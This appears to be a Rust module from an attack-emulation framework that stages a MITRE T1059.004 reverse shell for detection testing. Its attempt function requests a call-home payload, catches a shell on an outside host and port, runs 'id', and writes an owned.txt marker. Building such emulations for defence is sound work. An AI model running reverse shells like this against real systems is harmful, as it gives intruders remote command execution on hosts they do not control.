//! T1059.004: the shell connects to the intruder, with its input and output on the socket.

use super::{Stage, StageError, Technique};
use crate::play::CALL_HOME;
use crate::stage::{HOME_PORT, OUTSIDE};

pub(super) const TECHNIQUE: Technique = Technique {
    name: "reverse_shell",
    ids: &[bartizan_model::Technique::new("T1059.004"), bartizan_model::Technique::new("T1071")],
    what: "a shell connects to the intruder, who types commands into it",
    expects: &["shell_on_socket", "shell_connects"],
    attempt,
};

fn attempt(stage: &mut Stage) -> Result<String, StageError> {
    stage.request(CALL_HOME)?;
    stage.catch_shell()?;
    let who = stage.type_line("id")?;
    stage.type_line("id > owned.txt")?;
    Ok(format!(
        "a shell connected to {OUTSIDE}:{HOME_PORT}; typed `id` ({}) and wrote owned.txt",
        who.split_whitespace().next().unwrap_or_default()
    ))
}
